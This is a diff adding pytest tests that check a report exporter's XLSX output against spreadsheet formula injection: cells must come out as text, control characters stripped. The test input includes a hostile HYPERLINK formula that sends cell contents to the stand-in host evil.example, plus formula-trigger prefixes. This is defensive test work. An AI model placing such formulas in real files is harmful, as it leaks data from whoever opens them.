@@ -8,7 +8,7 @@ from typing import Any
 
 import pytest
 
-from reports.exports import COLUMNS, neutralise, to_csv
+from reports.exports import COLUMNS, neutralise, to_csv, to_xlsx
 
 
 @pytest.mark.parametrize(
@@ -65,3 +65,36 @@ def test_to_csv_multiline_text_stays_one_row() -> None:
     rows = _rows(to_csv([{"text": "line one\nline two, with comma"}, {"text": "second"}]))
     assert len(rows) == 3
     assert rows[1][COLUMNS.index("text")] == "line one\nline two, with comma"
+
+
+def _sheet(data: bytes) -> list[list[Any]]:
+    from openpyxl import load_workbook
+
+    workbook = load_workbook(io.BytesIO(data))
+    return [list(row) for row in workbook["findings"].iter_rows(values_only=True)]
+
+
+def test_to_xlsx_cells_are_text_and_formulas_are_neutralised() -> None:
+    from openpyxl import load_workbook
+
+    hostile = '=HYPERLINK("http://evil.example/?x="&A1,"Click me")'
+    data = to_xlsx([{"finding_id": 7, "text": hostile, "title": "\t=cmd", "author": "@dad",
+                     "rationale": "bell\x07 and nul\x00 dropped", "clauses": ["4"]}])
+    header, row = _sheet(data)
+    cells = dict(zip(header, row, strict=True))
+    assert header == COLUMNS
+    assert cells["text"] == "'" + hostile and cells["title"] == "'\t=cmd" and cells["author"] == "'@dad"
+    assert cells["rationale"] == "bell and nul dropped" and cells["clauses"] == '["4"]'
+    sheet = load_workbook(io.BytesIO(data))["findings"]
+    assert {cell.data_type for row in sheet.iter_rows() for cell in row} <= {"s", "inlineStr", "n"}  # no "f"
+    assert not [cell for row in sheet.iter_rows() for cell in row if cell.data_type == "n" and cell.value]
+
+
+def test_findings_xlsx_from_the_command_line(tmp_path: Any) -> None:
+    from typer.testing import CliRunner
+
+    from clausewatch.cli import app
+
+    result = CliRunner().invoke(app, ["findings", "--format", "xlsx"])
+    assert result.exit_code == 0, result.output
+    assert _sheet(result.stdout_bytes) == [COLUMNS]
